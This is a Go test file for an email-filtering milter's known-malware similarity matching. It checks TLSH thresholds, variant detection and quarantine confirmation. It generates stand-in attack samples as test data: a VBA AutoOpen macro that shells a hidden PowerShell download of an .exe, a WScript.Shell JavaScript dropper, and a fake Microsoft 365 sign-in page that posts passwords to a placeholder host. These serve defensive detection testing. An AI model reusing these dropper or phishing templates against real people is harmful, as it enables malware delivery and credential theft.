package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/kensa-milter/kensa/internal/corpus/formats"

	"github.com/kensa-milter/kensa/config"
	"github.com/kensa-milter/kensa/internal/testmail"
	"github.com/kensa-milter/kensa/known"
	"github.com/kensa-milter/kensa/message"
	"github.com/kensa-milter/kensa/policy"
	"github.com/kensa-milter/kensa/quarantine"
	"github.com/kensa-milter/kensa/scanners"
	"github.com/kensa-milter/kensa/unpack"
)

// flaggedLeaves scans the committed malicious corpus as kensa scan does and
// returns the content of every part a finding points at: what an admin
// confirming those messages would want remembered.
func flaggedLeaves(t *testing.T) map[string][]byte {
	t.Helper()
	dir := t.TempDir()
	mal := filepath.Join(repoRoot, "testdata", "corpus", "malicious")
	code, results := scanJSON(t, "--config", corpusConfig(t, dir), mal)
	if code == exitError || len(results) == 0 {
		t.Fatalf("kensa scan of the malicious corpus: exit %d, %d results", code, len(results))
	}
	opts := unpackOptions(t)
	// A part that a clean message carries too (the generator reuses benign
	// attachments; a name, not the content, made it bad) is not what an
	// admin would remember, nor one that confirming a message leaves out
	// (known.Remembered: an Office file's .rels member flagged for its
	// external link is package structure every document has).
	cleanParts := map[known.SHA256]bool{}
	cleanFiles, _ := filepath.Glob(filepath.Join(repoRoot, "testdata", "corpus", "clean", "*.eml"))
	for _, f := range cleanFiles {
		raw, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if m, err := message.Parse(raw); err == nil {
			unpack.Expand(context.Background(), m, opts)
			for _, p := range m.Parts {
				cleanParts[known.Of(p.Content).SHA256] = true
			}
		}
	}
	out := map[string][]byte{}
	for _, r := range results {
		raw, err := os.ReadFile(r.File)
		if err != nil {
			t.Fatal(err)
		}
		m, err := message.Parse(raw)
		if err != nil {
			continue
		}
		unpack.Expand(context.Background(), m, opts)
		flagged := map[string]bool{}
		for _, f := range r.Findings {
			if f.Scanner != "kensa" && f.Severity >= scanners.Suspicious {
				flagged[f.Part] = true
			}
		}
		for _, p := range m.Parts {
			if flagged[p.Path] && known.Remembered(p) && len(p.Content) >= 256 && !cleanParts[known.Of(p.Content).SHA256] && known.PartDigests(p).HasTLSH {
				out[filepath.Base(r.File)+" "+p.Path] = p.Content
			}
		}
	}
	return out
}

func unpackOptions(t *testing.T) unpack.Options {
	c, err := config.Parse(nil)
	if err != nil {
		t.Fatal(err)
	}
	return c.UnpackOptions()
}

var (
	identRE = regexp.MustCompile(`\b[A-Za-z_][A-Za-z0-9_]{3,}\b`)
)

// variantsOf are what a campaign changes between waves ("a few bytes, a
// variable name or a URL"): one variable renamed everywhere, one host of
// its URLs changed everywhere, 0.2% of the bytes patched, 5% random data
// appended.
func variantsOf(r *rand.Rand, b []byte) map[string][]byte {
	out := map[string][]byte{}
	if ids := distinct(identRE.FindAll(b, -1)); len(ids) > 0 {
		id := ids[r.IntN(len(ids))]
		out["renamed variable"] = regexp.MustCompile(`\b`+regexp.QuoteMeta(id)+`\b`).ReplaceAll(b, fmt.Appendf(nil, "q%x", r.Uint32()))
	}
	if hosts := distinct(hostRE.FindAll(b, -1)); len(hosts) > 0 {
		h := hosts[r.IntN(len(hosts))]
		out["changed URL"] = bytes.ReplaceAll(b, []byte(h), fmt.Appendf(nil, "//%x.example.net", r.Uint32()))
	}
	p := bytes.Clone(b)
	for range max(1, len(b)/500) {
		p[r.IntN(len(p))] = byte(r.Uint32())
	}
	out["patched bytes"] = p
	tail := make([]byte, max(16, len(b)/20))
	for i := range tail {
		tail[i] = byte(r.Uint32())
	}
	out["appended data"] = append(bytes.Clone(b), tail...)
	return out
}

var hostRE = regexp.MustCompile(`//[A-Za-z0-9.-]+`)

func distinct(all [][]byte) []string {
	seen := map[string]bool{}
	var out []string
	for _, a := range all {
		if !seen[string(a)] {
			seen[string(a)] = true
			out = append(out, string(a))
		}
	}
	sort.Strings(out)
	return out
}

// nearCopies are clean samples made as a copy of a malicious one with one
// thing changed, for the code search's tests: a PDF whose code is clipped
// out, drawn invisible or in a hidden annotation, a turned dot code drawn
// by the same writer to an honest site, and a PDF with a code split into
// pieces, to the sender's own site; for the query-file check, a connection
// file with its server moved to the intranet; and a one-page PDF of the
// corpus's writer whose few lines of text are all that differ from a
// malicious one's (TLSH of a 1-2 KB file sees the writer more than the text). They are the same document
// or picture, which similarity is meant to find, so they are left out of
// the rule below (only there: none may be a flagged part itself).
var nearCopies = map[string]bool{
	"odc-intranet-sql.eml":                 true, // odc-sql-internet's connection file with its server on the intranet
	"pdf-twin-own-portal.eml":              true, // the corpus's one-page PDF writer, a few lines of other text (46 from clickfix-text-pdf-german)
	"pdf-code-annot-hidden.eml":            true,
	"pdf-code-clipped-out.eml":             true,
	"pdf-code-type3-invisible.eml":         true,
	"qr-designer-dots-turned-own-site.eml": true,
	"qr-pdf-split-own-site.eml":            true,
}

// TestKnownThreshold is the measurement behind similarity.threshold's
// default (docs/known.md quotes its -v output): generated variants of the
// malicious corpus's flagged parts must fall within it, and no part of the
// clean corpus may come within it of any flagged part.
func TestKnownThreshold(t *testing.T) {
	leaves := flaggedLeaves(t)
	names := make([]string, 0, len(leaves))
	var samples []known.Sample
	for name := range leaves {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		d := known.Of(leaves[name])
		if d.HasTLSH {
			samples = append(samples, known.Sample{SHA256: d.SHA256, TLSH: d.TLSH, HasTLSH: true, Name: name, Verdict: 2})
		}
	}
	samples = append(samples, familySamples(leaves)...)
	set := known.NewSet(samples)
	threshold := known.DefaultThreshold
	r := rand.New(rand.NewPCG(15, 11))
	dists := map[string][]int{}
	total, missed := 0, 0
	for _, s := range samples {
		group := "corpus"
		if strings.HasPrefix(s.Name, "family ") {
			group = "families"
		}
		for kind, v := range variantsOf(r, leaves[s.Name]) {
			d, ok := known.ComputeTLSH(v)
			if !ok {
				continue
			}
			kind = group + ": " + kind
			dists[kind] = append(dists[kind], known.Distance(s.TLSH, d))
			if group != "families" {
				continue // parts of a few hundred bytes: reported, not required
			}
			total++
			if _, _, ok := set.Similar(d, threshold); !ok {
				missed++
			}
		}
	}
	kinds := make([]string, 0, len(dists))
	for k := range dists {
		kinds = append(kinds, k)
	}
	sort.Strings(kinds)
	for _, k := range kinds {
		ds := dists[k]
		slices.Sort(ds)
		beyond := len(ds) - sort.SearchInts(ds, threshold+1)
		t.Logf("%-27s n=%3d  median %3d  p90 %3d  max %3d  beyond %d: %d", k, len(ds), ds[len(ds)/2], ds[len(ds)*9/10], ds[len(ds)-1], threshold, beyond)
	}
	// Every part of every clean message, as `kensa known add` would learn it.
	var nearest []int
	cleanFiles, _ := filepath.Glob(filepath.Join(repoRoot, "testdata", "corpus", "clean", "*.eml"))
	opts := unpackOptions(t)
	for _, f := range cleanFiles {
		raw, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		m, err := message.Parse(raw)
		if err != nil {
			continue
		}
		unpack.Expand(context.Background(), m, opts)
		for _, p := range m.Parts {
			d := known.PartDigests(p)
			if _, ok := set.Exact(d.SHA256); ok {
				t.Errorf("clean %s %s is a flagged malicious part", filepath.Base(f), p.Path)
			}
			if !d.HasTLSH {
				continue
			}
			if _, dist, ok := set.Similar(d.TLSH, 1000); ok {
				nearest = append(nearest, dist)
			}
			if sm, dist, ok := set.Similar(d.TLSH, threshold); ok && !nearCopies[filepath.Base(f)] {
				t.Errorf("clean %s %s is within %d of %s (distance %d)", filepath.Base(f), p.Path, threshold, sm.Name, dist)
			}
		}
	}
	for name, b := range cleanFamilies() {
		d := known.Of(b)
		if _, dist, ok := set.Similar(d.TLSH, 1000); ok {
			nearest = append(nearest, dist)
		}
		if sm, dist, ok := set.Similar(d.TLSH, threshold); ok {
			t.Errorf("clean %s is within %d of %s (distance %d)", name, threshold, sm.Name, dist)
		}
	}
	slices.Sort(nearest)
	if len(samples) < 10 || len(nearest) < 20 {
		t.Fatalf("too little to measure: %d flagged parts, %d clean parts with a TLSH", len(samples), len(nearest))
	}
	t.Logf("flagged malicious parts: %d; clean parts: %d, nearest flagged part at min %d, p10 %d, median %d",
		len(samples), len(nearest), nearest[0], nearest[len(nearest)/10], nearest[len(nearest)/2])
	if missed*20 > total {
		t.Errorf("%d of %d variants are beyond the threshold %d (want at most 5%%)", missed, total, threshold)
	}

}

// Generated families of realistic size (a few KB to tens of KB, where
// TLSH is meant to work): malicious stand-ins (macro droppers, script
// droppers, phishing pages) and clean files of the same types.
func familySamples(leaves map[string][]byte) []known.Sample {
	r := rand.New(rand.NewPCG(15, 12))
	var out []known.Sample
	// A slice, not a map: map order is random, and each generator must draw
	// the same numbers on every run for the measurement to repeat.
	gens := []struct {
		kind string
		gen  func(*rand.Rand, int) []byte
	}{{"vba", vbaDropper}, {"js", jsDropper}, {"html", phishPage}}
	for i := range 8 {
		for _, g := range gens {
			b := g.gen(r, 3000+r.IntN(30000))
			name := fmt.Sprintf("family %s %d", g.kind, i)
			leaves[name] = b
			d := known.Of(b)
			out = append(out, known.Sample{SHA256: d.SHA256, TLSH: d.TLSH, HasTLSH: d.HasTLSH, Name: name, Verdict: 2})
		}
	}
	return out
}

func cleanFamilies() map[string][]byte {
	r := rand.New(rand.NewPCG(15, 13))
	out := map[string][]byte{}
	for i := range 8 {
		out[fmt.Sprintf("vba macro %d", i)] = benignVBA(r, 3000+r.IntN(30000))
		out[fmt.Sprintf("js %d", i)] = benignJS(r, 3000+r.IntN(30000))
		out[fmt.Sprintf("html newsletter %d", i)] = newsletterHTML(r, 3000+r.IntN(30000))
	}
	return out
}

func ident(r *rand.Rand) string {
	const letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
	b := make([]byte, 5+r.IntN(8))
	for i := range b {
		b[i] = letters[r.IntN(len(letters))]
	}
	return string(b)
}

// fill repeats lines drawn from gen until n bytes.
func fill(n int, head, tail string, gen func() string) []byte {
	var b strings.Builder
	b.WriteString(head)
	for b.Len() < n {
		b.WriteString(gen())
	}
	b.WriteString(tail)
	return []byte(b.String())
}

// The malicious stand-ins carry their download URL a few times, as real
// droppers do, among lines of string-building noise.
func vbaDropper(r *rand.Rand, n int) []byte {
	vars := []string{ident(r), ident(r), ident(r), ident(r)}
	url := fmt.Sprintf("http://%s.example/%d", ident(r), r.IntN(1000))
	return fill(n, "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  Dim "+vars[0]+" As String\r\n", "  Shell "+vars[0]+", 0\r\nEnd Sub\r\n", func() string {
		v := vars[r.IntN(len(vars))]
		switch r.IntN(40) {
		case 0:
			return fmt.Sprintf("  %s = \"powershell -w hidden -c iwr %s -o $env:TEMP\\%s.exe\"\r\n", v, url, ident(r))
		case 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19:
			return fmt.Sprintf("  %s = %s & Chr(%d) & \"%s\"\r\n", v, v, 32+r.IntN(90), ident(r))
		}
		return fmt.Sprintf("  %s = Replace(%s, \"%s\", \"\")\r\n", v, v, ident(r))
	})
}

func jsDropper(r *rand.Rand, n int) []byte {
	vars := []string{ident(r), ident(r), ident(r)}
	url := fmt.Sprintf("https://%s.example/gate.php?id=%d", ident(r), r.IntN(100000))
	return fill(n, "var "+vars[0]+" = new ActiveXObject(\"WScript.Shell\");\nvar "+vars[1]+" = [];\n", vars[0]+".Run(\"cmd /c \" + "+vars[1]+".join(\"\"), 0);\n", func() string {
		switch r.IntN(40) {
		case 0:
			return fmt.Sprintf("%s.push(\"%s\");\n", vars[1], url)
		case 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19:
			return fmt.Sprintf("%s.push(String.fromCharCode(%d,%d,%d));\n", vars[1], r.IntN(128), r.IntN(128), r.IntN(128))
		}
		return fmt.Sprintf("var %s = \"%s\".split(\"\").reverse().join(\"\");\n", vars[2], ident(r))
	})
}

func phishPage(r *rand.Rand, n int) []byte {
	host := ident(r)
	return fill(n, "<!DOCTYPE html><html><head><title>Microsoft 365 - Sign in</title><style>body{font-family:Segoe UI}</style></head><body>\n<form action=\"https://"+host+".example/owa/login.php\" method=\"post\">\n",
		"<input type=\"password\" name=\"passwd\"><button>Sign in</button></form></body></html>\n", func() string {
			switch r.IntN(40) {
			case 0:
				return fmt.Sprintf("<a href=\"https://%s.example/reset?u=%d\">Keep my messages</a>\n", host, r.IntN(10000))
			case 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19:
				return fmt.Sprintf("<div class=\"%s\" style=\"margin:%dpx\">Your mailbox storage is %d%% full. Verify your account to keep receiving mail.</div>\n", ident(r), r.IntN(20), 90+r.IntN(10))
			}
			return fmt.Sprintf("<input type=\"hidden\" name=\"%s\" value=\"%d\">\n", ident(r), r.Uint32())
		})
}

func benignVBA(r *rand.Rand, n int) []byte {
	return fill(n, "Attribute VB_Name = \"Module1\"\r\nOption Explicit\r\nPublic Sub FormatReport()\r\n", "End Sub\r\n", func() string {
		row := r.IntN(500) + 2
		if r.IntN(3) == 0 {
			return fmt.Sprintf("    Cells(%d, 9).Formula = \"=SUM(B%d:H%d)\"\r\n", row, row, row)
		}
		return fmt.Sprintf("    With Worksheets(\"Report\").Range(\"A%d:H%d\")\r\n        .Font.Bold = %v\r\n        .Interior.ColorIndex = %d\r\n    End With\r\n", row, row, r.IntN(2) == 0, r.IntN(56))
	})
}

func benignJS(r *rand.Rand, n int) []byte {
	return fill(n, "document.addEventListener('DOMContentLoaded', function () {\n", "});\n", func() string {
		switch r.IntN(3) {
		case 0:
			return fmt.Sprintf("  document.querySelectorAll('.%s').forEach(function (el) { el.classList.toggle('open'); });\n", ident(r))
		case 1:
			return fmt.Sprintf("  var %s = document.getElementById('%s');\n  if (%s) { %s.style.width = '%dpx'; }\n", "el", ident(r), "el", "el", r.IntN(900))
		}
		return fmt.Sprintf("  fetch('/api/items?page=%d').then(function (r) { return r.json(); }).then(render);\n", r.IntN(50))
	})
}

func newsletterHTML(r *rand.Rand, n int) []byte {
	return fill(n, "<html><body style=\"background:#f4f4f4\"><table width=\"600\" align=\"center\">\n", "</table><p>Unsubscribe at any time.</p></body></html>\n", func() string {
		if r.IntN(2) == 0 {
			return fmt.Sprintf("<tr><td><img src=\"https://news.example.org/img/%d.png\" width=\"%d\"></td></tr>\n", r.IntN(1000), 100+r.IntN(400))
		}
		return fmt.Sprintf("<tr><td style=\"padding:%dpx\"><h2>Story %d</h2><p>Our team met in %s to plan the autumn release; read more on the blog.</p></td></tr>\n", r.IntN(30), r.IntN(100), ident(r))
	})
}

// TestKnownEndToEnd: `kensa known add` a file, then `kensa scan` with the
// same state directory: a byte-identical copy is rejected (known-malicious),
// a variant is flagged similar-to-known and not accepted, an unrelated file
// of the same type passes. The set survives (the scan is a new process
// reading what add stored).
func TestKnownEndToEnd(t *testing.T) {
	t.Setenv(stateDirEnv, "") // --state-dir sets it for the process; restored after the test
	dir := t.TempDir()
	state := filepath.Join(dir, "state")
	r := rand.New(rand.NewPCG(15, 14))
	page := phishPage(r, 12000)
	sample := writeFile(t, dir, "statement.html", page)
	code, out, errs := runCmd(t, "", "known", "add", "--state-dir", state, "--name", "phish wave 1", sample)
	if code != exitOK || !strings.Contains(out, "1 new") {
		t.Fatalf("known add: exit %d\n%s%s", code, out, errs)
	}
	code, out, _ = runCmd(t, "", "known", "list", "--state-dir", state)
	if code != exitOK || !strings.Contains(out, "phish wave 1") || !strings.Contains(out, " T1") {
		t.Fatalf("known list: exit %d\n%s", code, out)
	}
	variant := bytes.ReplaceAll(page, hostRE.Find(page), []byte("//wave2-login.example"))
	mail := func(name string, body []byte) string {
		return writeFile(t, dir, name+".eml", testmail.Multipart("Your statement", "mixed",
			testmail.Part{Type: "text/plain; charset=utf-8", Body: "Please see the attachment.\n"},
			testmail.Part{Type: "text/html; charset=utf-8", Filename: name + ".html", Body: string(body), Base64: true}))
	}
	exact, near, clean := mail("exact", page), mail("variant", variant), mail("newsletter", newsletterHTML(r, 12000))
	_, results := scanJSON(t, "--state-dir", state, exact, near, clean)
	if len(results) != 3 {
		t.Fatalf("%d results", len(results))
	}
	ids := func(r scanResult) map[string]string {
		m := map[string]string{}
		for _, f := range r.Findings {
			if f.Scanner == "known" {
				m[f.ID] = f.Detail
			}
		}
		return m
	}
	if got := ids(results[0]); results[0].Action != policy.Reject || !strings.Contains(got[known.FindingKnown], "phish wave 1") {
		t.Errorf("identical copy: %s, known findings %v", results[0].Action, got)
	}
	if got := ids(results[1]); results[1].Action == policy.Accept || !strings.Contains(got[known.FindingSimilar], "distance") {
		t.Errorf("variant: %s, known findings %v", results[1].Action, got)
	}
	if got := ids(results[2]); results[2].Action != policy.Accept || len(got) != 0 {
		t.Errorf("unrelated newsletter: %s, known findings %v", results[2].Action, got)
	}
	// remove: the copy passes again.
	sum := known.Of(page).SHA256.String()
	if code, out, errs := runCmd(t, "", "known", "remove", "--state-dir", state, sum); code != exitOK {
		t.Fatalf("known remove: %d %s%s", code, out, errs)
	}
	_, results = scanJSON(t, "--state-dir", state, exact)
	if len(ids(results[0])) != 0 {
		t.Errorf("after remove: %v", ids(results[0]))
	}
}

// TestQuarantineConfirm: confirming a quarantined message remembers its
// parts, named after its ref; a later copy is rejected as known-malicious.
func TestQuarantineConfirm(t *testing.T) {
	q := newQEnv(t)
	r := rand.New(rand.NewPCG(15, 15))
	raw := testmail.Multipart("Your statement", "mixed",
		testmail.Part{Type: "text/plain; charset=utf-8", Body: "Please see the attachment.\n"},
		testmail.Part{Type: "text/html; charset=utf-8", Filename: "statement.html", Body: string(phishPage(r, 9000)), Base64: true})
	v := policy.Verdict{Action: policy.Quarantine, Score: 50, Reasons: []string{policy.ReasonScore}, Ref: "refconfirm1"}
	e := quarantine.NewEntry(raw, message.Envelope{Sender: "eve@bad.example", Recipients: []string{"bob@example.org"}}, v)
	if err := q.st.Put(context.Background(), e); err != nil {
		t.Fatal(err)
	}
	code, out, errs := q.run(t, "confirm", e.ID, "nosuchid")
	if code != exitFlagged || !strings.Contains(out, "1 part(s) remembered") || !strings.Contains(errs, "nosuchid") {
		t.Fatalf("confirm: exit %d\n%s%s", code, out, errs)
	}
	code, out, _ = runCmd(t, "", "known", "list", "--config", q.cfg)
	if code != exitOK || !strings.Contains(out, "ref refconfirm1 2") || !strings.Contains(out, "confirm") {
		t.Fatalf("known list after confirm: %d\n%s", code, out)
	}
	copyFile := writeFile(t, q.dir, "copy.eml", raw)
	_, results := scanJSON(t, "--config", q.cfg, copyFile)
	if len(results) != 1 || results[0].Action != policy.Reject {
		t.Fatalf("copy of a confirmed message: %+v", results)
	}
}

// TestScanJSONDigests: `kensa scan --json` gives every part with content
// its SHA-256, and its TLSH where the part is long and varied enough; the
// TLSH of an attachment and of the member unpacked from it equal Debian's
// reference tool's.
func TestScanJSONDigests(t *testing.T) {
	tool, err := exec.LookPath("tlsh")
	if err != nil {
		t.Fatalf("the reference tool tlsh is missing (apt-get install tlsh-tools; scripts/deps.sh test installs it): %v", err)
	}
	t.Setenv(stateDirEnv, "") // --state-dir sets it for the process; restored after the test
	dir := t.TempDir()
	r := rand.New(rand.NewPCG(15, 16))
	member := vbaDropper(r, 6000)
	zb := formats.ArchiveZip(true, formats.ZipEntry{Name: "module1.txt", Data: member})
	const body = "See the attached.\n" // too short for a TLSH
	msg := writeFile(t, dir, "m.eml", testmail.Multipart("digests", "mixed",
		testmail.Part{Type: "text/plain; charset=utf-8", Body: body},
		testmail.Part{Type: "application/zip", Filename: "macros.zip", Body: string(zb), Base64: true}))
	_, results := scanJSON(t, "--state-dir", filepath.Join(dir, "state"), msg)
	if len(results) != 1 {
		t.Fatalf("%d results", len(results))
	}
	want := map[string][]byte{"body": []byte(strings.ReplaceAll(body, "\n", "\r\n")), "macros.zip": zb, "module1.txt": member}
	seen := map[string]bool{}
	for _, p := range results[0].Parts {
		if p.Size > 0 && len(p.SHA256) != 64 {
			t.Errorf("part %s (%d bytes) has no SHA-256: %q", p.Path, p.Size, p.SHA256)
		}
		name := p.Filename
		if name == "" && p.DeclaredType == "text/plain" {
			name = "body"
		}
		content, ok := want[name]
		if !ok {
			continue
		}
		seen[name] = true
		if sum := sha256.Sum256(content); p.SHA256 != hex.EncodeToString(sum[:]) {
			t.Errorf("part %s (%s): sha256 %s, want %x", p.Path, name, p.SHA256, sum)
		}
		if name == "body" {
			if p.TLSH != "" {
				t.Errorf("the %d-byte body has a TLSH %s", p.Size, p.TLSH)
			}
			continue
		}
		f := writeFile(t, dir, name, content)
		out, err := exec.Command(tool, "-f", f).CombinedOutput()
		if err != nil {
			t.Fatalf("tlsh -f %s: %v\n%s", name, err, out)
		}
		ref, _, _ := strings.Cut(string(out), "\t")
		if p.TLSH != "T1"+ref {
			t.Errorf("part %s (%s): TLSH %s, the reference tool says T1%s", p.Path, name, p.TLSH, ref)
		}
	}
	if len(seen) != len(want) {
		t.Errorf("parts found %v, want %d: %+v", seen, len(want), results[0].Parts)
	}
}
